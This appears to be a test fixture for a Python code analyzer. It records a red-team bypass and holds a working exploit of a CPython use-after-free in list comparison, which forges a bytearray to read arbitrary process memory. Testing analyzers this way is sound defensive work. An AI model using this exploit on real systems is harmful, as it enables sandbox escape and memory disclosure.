# expect: reject memory
# why: twentieth red team (the red team's ok_01): an attribute store on the instance under
#   construction runs a data descriptor's setter of the program's, which must be judged
# line: 23
# ok_01 -- goal: raw memory (gh-120298 use-after-free in list < list): a fake bytearray of length 2**62 at address 0 reads any address in the process
# mechanism: a property SETTER runs inside a comparison. V.__lt__ builds Stack([1, 2]); Stack.__init__ calls self.put_on(x); put_on does self.top = x,
#   and `top` is a property whose setter empties the compared list vl -> V is freed while list_richcompare still holds a borrowed pointer;
#   Wc.__gt__ (the reflected op) hands the freed V out by raising LookupError(o); the bytearray(FAKE) buffer (80-byte class) reuses the block.
# rule slipped: `memory` (analyzer/memsafe.c), round-17 change 29fa760 "a constructor's helper methods may set the instance's attributes":
#   fresh_receiver lets a fresh method (queued with FRESH_BIT) assign self.<attr> as a plain store on the instance under construction, but never asks
#   whether the class defines a data descriptor (property setter / __set__) or __setattr__ for that attribute, so the setter body is never judged.
#   (The __gt__ that only raises a builtin exception with o is judged pure: raising hands the freed item out of the comparison.)
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
vl = []
class Stack:
    def __init__(self, items):
        for x in items:
            self.put_on(x)
    def put_on(self, x):
        self.top = x
    @property
    def top(self): return 1
    @top.setter
    def top(self, v):
        vl.clear()
class V:
    __slots__ = ("a", "b", "c", "d", "e", "f")
    def __eq__(s, o): return False
    def __lt__(s, o):
        Stack([1, 2])
        return NotImplemented
class Wc:
    def __eq__(s, o): return False
    def __gt__(s, o):
        raise LookupError(o)
def raw_memory():
    w = Wc()
    vl.append(V())
    try:
        vl < [w]
    except LookupError as e:
        keep.append(bytearray(FAKE))
        return e.args[0]
mem = raw_memory()
print(type(mem).__name__, hex(len(mem)))
addr = id(12345)
print("read out of bounds: ob_type of 12345 at", hex(addr + 8), "=", hex(int.from_bytes(mem[addr + 8:addr + 16], "little")), "id(int) =", hex(id(int)))
print("bytes at id(bytearray):", mem[id(bytearray):id(bytearray) + 24].hex())
